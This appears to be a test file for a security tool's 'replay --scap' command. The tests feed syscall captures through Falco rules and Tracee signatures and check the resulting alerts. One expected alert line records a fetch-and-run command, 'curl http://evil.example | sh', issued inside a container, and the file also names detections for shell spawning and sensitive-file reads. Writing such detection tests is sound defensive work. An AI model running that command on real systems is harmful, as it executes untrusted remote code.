/** `vigil replay --scap`: generated captures through the built-in Falco rules, our own -r rules and the Tracee signatures. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { replay } from '../../src/cli/commands/replay.js';
import { BUILTIN_ALERTS, capture, events, falcoLines, LAST_BLOCK, lateContainerCapture } from './scap-story.js';

const ROOT = join(import.meta.dirname, '../..');
const DIR = mkdtempSync(join(tmpdir(), 'vigil-replay-scap-'));
const CAPTURE = join(DIR, 'story.scap');
writeFileSync(CAPTURE, capture);
writeFileSync(join(DIR, 'story.scap.gz'), gzipSync(capture));
// Cut inside the last event block: every event before it is replayed.
const TRUNCATED = join(DIR, 'truncated.scap');
writeFileSync(TRUNCATED, capture.subarray(0, LAST_BLOCK + 10));
const OWN_RULES = join(DIR, 'own.yaml');
writeFileSync(OWN_RULES, `- rule: Shell in container (test)
  desc: a shell started inside a container
  condition: evt.type in (execve, execveat) and evt.rawres = 0 and container.id != host and proc.name in (sh, bash)
  output: Shell in container (user=%user.name uid=%user.uid command=%proc.cmdline parent=%proc.pname container_id=%container.id)
  priority: NOTICE
  tags: [container, shell]
`);

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await replay(args, { out: (t) => { out += t; }, err: (t) => { err += t; }, stdin: Readable.from([]), flush: async () => {} });
  return { code, out, err };
}

const blocks = (out: string) => out.split('*** Detection ***\n').slice(1);

describe('vigil replay --scap', () => {
  it('prints the built-in Falco rules\' alerts and the signatures\' detection blocks, with a summary', async () => {
    const { code, out, err } = await run(['--scap', CAPTURE]);
    assert.equal(code, 0, err);
    assert.deepEqual(falcoLines(out), BUILTIN_ALERTS);
    const found = blocks(out);
    assert.deepEqual(found.map((b) => /Signature ID: (\S+)/.exec(b)![1]), ['TRC-4', 'TRC-6', 'TRC-6', 'TRC-3']);
    for (const b of found) assert.match(b, /\nCommand: cat\nHostname: /);
    assert.match(err, new RegExp(`vigil replay: ${events.length} events, ${BUILTIN_ALERTS.length + found.length} alerts, 0 errors\n$`));
  });

  it('a container announced mid-capture is named in the alerts that follow, as one saved ahead of the syscalls', async () => {
    const late = join(DIR, 'late-container.scap');
    writeFileSync(late, lateContainerCapture);
    const { code, out, err } = await run(['--scap', late]);
    assert.equal(code, 0, err);
    assert.deepEqual(falcoLines(out), BUILTIN_ALERTS);
  });

  it('adds -r rule files to the built-in rules; users come from the capture\'s user list', async () => {
    const { code, out, err } = await run(['--scap', CAPTURE, '-r', OWN_RULES]);
    assert.equal(code, 0, err);
    // In event order; on one event, the built-in rules (loaded first) before ours.
    assert.deepEqual(falcoLines(out), [
      ...BUILTIN_ALERTS.slice(0, 2),
      '22:13:20.000066000: Notice Shell in container (user=nginx uid=101 command=sh -c curl http://evil.example | sh parent=nginx container_id=c0ffee123456)',
      ...BUILTIN_ALERTS.slice(2, 4),
      '22:13:20.000075000: Notice Shell in container (user=root uid=0 command=bash parent=containerd-shim container_id=c0ffee123456)',
      BUILTIN_ALERTS[4],
    ]);
  });

  it('reads .scap.gz the same as .scap', async () => {
    const plain = await run(['--scap', CAPTURE]);
    const gz = await run(['--scap', join(DIR, 'story.scap.gz')]);
    assert.equal(gz.code, 0, gz.err);
    assert.equal(gz.out, plain.out);
  });

  it('prints one JSON object per alert with --json', async () => {
    const { code, out } = await run(['--scap', CAPTURE, '--json']);
    assert.equal(code, 0);
    const alerts = out.trim().split('\n').map((l) => JSON.parse(l) as { rule: string; priority: string; source: string; output_fields: Record<string, unknown> });
    assert.equal(alerts.length, 9);
    const falco = alerts.filter((a) => a.source === 'syscall');
    assert.deepEqual(falco.map((a) => a.rule), ['Read sensitive file', 'Write below etc', 'Read sensitive file', 'Terminal shell in container', 'Write below etc']);
    assert.equal(falco[1]!.output_fields['fd.name'], '/etc/hosts');
    assert.equal(falco[1]!.priority, 'Error');
  });

  it('a truncated capture: the earlier alerts are printed, then the byte offset, exit 1', async () => {
    const { code, out, err } = await run(['--scap', TRUNCATED]);
    assert.equal(code, 1);
    assert.deepEqual(falcoLines(out), BUILTIN_ALERTS.slice(0, 4));
    assert.match(err, new RegExp(`error reading capture .*truncated\\.scap: byte offset ${LAST_BLOCK}: truncated`));
    assert.match(err, new RegExp(`${events.length - 1} events, 8 alerts, 1 errors\n$`));
  });

  it('exit 1 for a missing capture and for rules that do not load', async () => {
    const missing = await run(['--scap', join(DIR, 'missing.scap')]);
    assert.equal(missing.code, 1);
    assert.match(missing.err, /byte offset 0: cannot open/);
    const badRules = join(DIR, 'bad.yaml');
    writeFileSync(badRules, '- rule: broken\n  condition: evt.type = \n');
    const bad = await run(['--scap', CAPTURE, '-r', badRules]);
    assert.equal(bad.code, 1);
    assert.match(bad.err, /bad\.yaml:\d+:\d+: error/);
    assert.match(bad.err, /the rules do not load/);
    assert.equal(bad.out, '');
  });

  it('as a process: alerts on stdout, the fault on stderr, exit status 1', () => {
    const result = spawnSync(process.execPath, ['--import', 'tsx', '-e', "import('./src/cli/index.ts').then((m) => m.main(process.argv.slice(1))).then((c) => { process.exitCode = c; })",
      'replay', '--scap', TRUNCATED], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(result.status, 1, result.stderr);
    assert.deepEqual(falcoLines(result.stdout), BUILTIN_ALERTS.slice(0, 4));
    assert.match(result.stderr, new RegExp(`byte offset ${LAST_BLOCK}`));
  });
});
